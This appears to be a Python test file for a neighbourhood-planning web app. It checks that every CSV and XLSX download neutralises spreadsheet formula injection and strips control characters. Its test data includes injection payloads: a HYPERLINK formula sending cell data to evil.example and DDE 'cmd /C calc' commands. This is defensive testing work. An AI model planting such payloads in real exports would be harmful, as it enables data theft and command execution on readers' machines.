"""No export runs a formula in the reader's spreadsheet program, and no text breaks an export.

Measure, effect and process titles, a card batch and the audit log's process names are set to
text that Excel would run (`=`, `+`, `-`, `@`, tab, carriage return) and to text with control
characters; every CSV and XLSX download is then read back cell by cell.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session, col, select

from app.domain.spreadsheet import (
    FORMULA_STARTS,
    csv_writer,
    harden_workbook,
    neutralise,
    unneutralise,
    xlsx_value,
)
from app.domain.vocabulary import Role
from app.exports import menu as menu_export
from app.main import app
from app.models import Effect, Measure, PlanSnapshot, Process
from app.services import codes as codes_service
from app.services import editor, imports
from app.services import users as users_service
from tests.factories import meeting_night

PASSWORD = "correct horse battery"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+31 50 123 4567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BROKEN = "Speel\x01tuin\x1f aan de Oosterhamrikkade\x7f"


def test_text_that_looks_like_a_formula_gets_an_apostrophe() -> None:
    for text in ATTACKS:
        assert neutralise(text) == "'" + text.replace("\x01", "")
        assert unneutralise(neutralise(text)) == text
    assert neutralise("Speeltuin") == "Speeltuin"
    assert neutralise("-1,5") == "-1,5"  # a number is a number
    assert neutralise("-12") == "-12"
    assert neutralise(-3) == -3
    assert neutralise(None) is None
    assert neutralise("a\x00b\x08c\ud800d\te\nf") == "abcd\te\nf"
    assert unneutralise("'Oosterpark") == "'Oosterpark"  # an apostrophe of the text itself stays


def test_a_csv_writer_and_a_workbook_are_hardened() -> None:
    buffer = io.StringIO()
    csv_writer(buffer, delimiter=";").writerow([*ATTACKS, 7, BROKEN])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert row[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert row[-2:] == ["7", "Speeltuin aan de Oosterhamrikkade"]

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([xlsx_value(a) for a in ATTACKS] + [xlsx_value(BROKEN)])
    total = sheet.cell(row=2, column=1, value="=SUM(B1:B1)")
    assert harden_workbook(book, formulas=[total]) == len(ATTACKS)
    read = _workbook_cells(_saved(book))
    # XML reads a carriage return back as a newline.
    assert [v for v, _t, _q in read["Sheet"][: len(ATTACKS)]] == [
        a.replace("\r", "\n") for a in ATTACKS
    ]
    assert all(quoted for _v, _t, quoted in read["Sheet"][: len(ATTACKS)])
    assert read["Sheet"][-1] == ("=SUM(B1:B1)", "f", False)


def _saved(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _workbook_cells(data: bytes) -> dict[str, list[tuple[Any, str, bool]]]:
    book = load_workbook(io.BytesIO(data))
    return {
        sheet.title: [
            (cell.value, cell.data_type, bool(cell.quotePrefix))
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        for sheet in book.worksheets
    }


def csv_problems(data: bytes, name: str) -> list[str]:
    """Cells of a CSV download a spreadsheet would run, or that hold control characters."""
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
    problems = []
    for number, row in enumerate(csv.reader(io.StringIO(text), delimiter=delimiter), 1):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not _number(cell):
                problems.append(f"{name} row {number}: {cell!r} would run as a formula")
            if any(ord(ch) < 32 and ch not in "\t\r\n" for ch in cell):
                problems.append(f"{name} row {number}: control character in {cell!r}")
    return problems


def xlsx_problems(data: bytes, name: str, formulas: int = 0) -> list[str]:
    """Cells of an XLSX download that would run as a formula (beyond the export's own)."""
    problems = []
    found = 0
    for sheet, cells in _workbook_cells(data).items():
        for value, data_type, quoted in cells:
            if data_type == "f":
                found += 1
            elif (
                isinstance(value, str)
                and value.startswith(FORMULA_STARTS)
                and not quoted
                and not _number(value)
            ):
                problems.append(f"{name} sheet {sheet}: {value!r} is not marked as text")
    if found != formulas:
        problems.append(f"{name}: {found} formula cells, expected {formulas}")
    return problems


def _number(text: str) -> bool:
    return text.lstrip("-").replace(",", "").replace(".", "").isdigit()


@pytest.fixture
def poisoned(session: Session, korrewegwijk: int) -> int:
    """The Korrewegwijk process with titles a spreadsheet would run, and a night of ballots."""
    process = session.get(Process, korrewegwijk)
    assert process is not None
    process.title = "=cmd|' /C calc'!A0"
    measures = session.exec(
        select(Measure).where(Measure.process_id == korrewegwijk).order_by(col(Measure.id))
    ).all()
    for measure, title in zip(measures, [*ATTACKS, BROKEN], strict=False):
        measure.title = title
    effect = session.exec(
        select(Effect).where(Effect.process_id == korrewegwijk).order_by(col(Effect.id))
    ).first()
    assert effect is not None
    effect.title = "@Veiligheid"
    session.flush()
    meeting_night(session, korrewegwijk)
    users_service.create_user(session, email="w@example.org", role=Role.WIJKTEAM, password=PASSWORD)
    session.flush()
    return korrewegwijk


@pytest.mark.one_database(
    "the cells of every CSV and XLSX download, the same whichever database held the titles"
)
def test_no_export_runs_a_formula(client: TestClient, poisoned: int) -> None:
    login = client.post("/login", data={"email": "w@example.org", "password": PASSWORD})
    assert login.status_code == 200
    base = f"/wijkteam/processes/{poisoned}"
    problems: list[str] = []
    downloads: dict[str, bytes] = {}
    for name, url in {
        "menu.csv": f"{base}/export/csv",
        "menu.xlsx": f"{base}/export/xlsx",
        "plan.csv": f"{base}/plan.csv",
        "plan.xlsx": f"{base}/plan.xlsx",
        "template.csv": "/wijkteam/template/csv",
        "template.xlsx": "/wijkteam/template/xlsx",
    }.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.text[:300])
        downloads[name] = response.content
    cards = client.post(
        f"/api/processes/{poisoned}/codes",
        json={"count": 2, "batch": "=1+1", "format": "csv", "allow_local": True},
    )
    assert cards.status_code == 200, cards.text
    downloads["cards.csv"] = cards.content
    downloads["audit.csv"] = client.get(f"/wijkteam/audit.csv?process={poisoned}").content
    for name, data in downloads.items():
        if name.endswith(".csv"):
            problems.extend(csv_problems(data, name))
        else:
            # No formula at all: the plan's totals are the numbers its PDF prints.
            problems.extend(xlsx_problems(data, name))
    assert problems == [], "\n".join(problems)
    # The titles are all there, as text.
    menu_cells = {
        cell
        for row in csv.reader(io.StringIO(downloads["menu.csv"].decode("utf-8-sig")), delimiter=";")
        for cell in row
    }
    assert {"'" + a for a in ATTACKS} <= menu_cells
    assert "Speeltuin aan de Oosterhamrikkade" in menu_cells
    assert "'=1+1" in downloads["cards.csv"].decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in downloads["audit.csv"].decode("utf-8-sig")
    plan_titles = [v for v, _t, _q in _workbook_cells(downloads["plan.xlsx"])["Plan"]]
    assert {a.replace("\r", "\n") for a in ATTACKS} <= set(plan_titles)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_menu_with_formula_like_titles_round_trips(
    file_format: str, session: Session, poisoned: int
) -> None:
    user = users_service.operator(session, email="w@example.org")
    original = editor.menu_document(session, user=user, process_id=poisoned)
    data = menu_export.menu_file(original, file_format)
    read = imports.read_menu_file(filename=f"menu.{file_format}", data=data)
    assert read.problems == []
    assert read.document is not None
    # Control characters are dropped on the way out; a title cannot start with blanks.
    expected = replace(
        original,
        measures=tuple(
            replace(m, title=m.title.replace("\x01", "").replace("\x1f", "").replace("\x7f", ""))
            for m in original.measures
        ),
    )
    got = {m.key: m.title for m in read.document.measures}
    for measure in expected.measures:
        assert got[measure.key] == measure.title.strip(), measure.key


@pytest.mark.one_database(
    "the cells of the downloads after the vote; adopting, the schedule, the follow-up and the"
    " offers are tested on both databases (test_plan, test_schedule, test_follow_up, test_offers)"
)
def test_no_export_after_the_vote_runs_a_formula(
    client: TestClient, session: Session, poisoned: int
) -> None:
    """The adopted plan with its schedule (draft, adopted and public downloads), the offers of
    help and the follow-up file, with titles, an offer and follow-up texts a spreadsheet would
    run."""
    pid = poisoned
    # Every measure's title a formula, so that whichever the plan selects is one.
    for measure in session.exec(select(Measure).where(Measure.process_id == pid)).all():
        if not measure.title.startswith(FORMULA_STARTS):
            measure.title = "-" + measure.title
    session.flush()
    login = client.post("/api/login", json={"email": "w@example.org", "password": PASSWORD})
    assert login.status_code == 200
    for url in (f"/api/processes/{pid}/plan/adopt", f"/api/processes/{pid}/plan/schedule/adopt"):
        assert client.post(url).status_code == 201, url
    assert client.patch(f"/api/processes/{pid}/follow-up", json={"first_year": 2027}).is_success
    plan = client.get(f"/api/processes/{pid}/plan/adopted").json()
    [first, *_] = [m for m in plan["measures"] if m["selected"]]
    change = {
        "status": "bezig",
        "organisation": ATTACKS[0],
        "milestones": [{"date": "2027-03-01", "text": ATTACKS[3]}],
        "spent": {"2027": 1000},
    }
    changed = client.put(f"/api/processes/{pid}/follow-up/measures/{first['key']}", json=change)
    assert changed.is_success, changed.text
    published = client.post(
        f"/wijkteam/processes/{pid}/plan/publish", data={"public": "true"}, follow_redirects=False
    )
    assert published.status_code == 303
    # A resident offers help under a name and with a note that look like formulas.
    [card] = codes_service.issue_codes(session, process_id=pid, count=1)
    phone = TestClient(app, base_url="http://testserver")
    assert phone.post("/api/join", json={"code": card.code}).is_success
    offer = {
        "measure_ids": [
            session.exec(
                select(Measure.id).where(Measure.process_id == pid, Measure.key == first["key"])
            ).one()
        ],
        "name": "=1+1 Jansen",
        "contact_kind": "phone",
        "contact": "+44 20 7946 0958",
        "note": "@SUM(1+1)*cmd|' /C calc'!A0",
        "consent": True,
    }
    made = phone.post("/api/offers", json=offer)
    assert made.status_code == 201, made.text
    snapshot = session.exec(select(PlanSnapshot.id).where(PlanSnapshot.process_id == pid)).one()
    downloads: dict[str, bytes] = {}
    for name, url in {
        "plan.csv": f"/wijkteam/processes/{pid}/plan.csv",
        "plan.xlsx": f"/wijkteam/processes/{pid}/plan.xlsx",
        "adopted plan.csv": f"/wijkteam/processes/{pid}/plan/adopted/{snapshot}.csv",
        "adopted plan.xlsx": f"/wijkteam/processes/{pid}/plan/adopted/{snapshot}.xlsx",
        "public plan.csv": f"/processes/{pid}/plan.csv",
        "public plan.xlsx": f"/processes/{pid}/plan.xlsx",
        "offers.csv": f"/wijkteam/processes/{pid}/offers.csv",
        "follow-up.csv": f"/wijkteam/processes/{pid}/voortgang.csv",
        "follow-up.xlsx": f"/wijkteam/processes/{pid}/voortgang.xlsx",
        "follow-up file (API).csv": f"/api/processes/{pid}/follow-up/file?format=csv",
        "follow-up file (API).xlsx": f"/api/processes/{pid}/follow-up/file?format=xlsx",
    }.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.text[:300])
        downloads[name] = response.content
    problems: list[str] = []
    for name, data in downloads.items():
        if name.endswith(".csv"):
            problems.extend(csv_problems(data, name))
        else:
            problems.extend(xlsx_problems(data, name))
    assert problems == [], "\n".join(problems)
    # What was neutralised is there, as text: the schedule's titles, the offer, the follow-up.
    offers = downloads["offers.csv"].decode("utf-8-sig")
    assert "'=1+1 Jansen" in offers
    assert "'@SUM(1+1)" in offers
    follow_up = downloads["follow-up.csv"].decode("utf-8-sig")
    assert "'" + ATTACKS[0] in follow_up.replace('""', '"')
    sheets = _workbook_cells(downloads["adopted plan.xlsx"])
    schedules = [c for name, c in sheets.items() if name in ("Schedule", "Fasering")]
    assert len(schedules) == 1, list(sheets)
    schedule = schedules[0]
    assert (first["title"], "s", True) in schedule
    assert first["title"].startswith(FORMULA_STARTS)
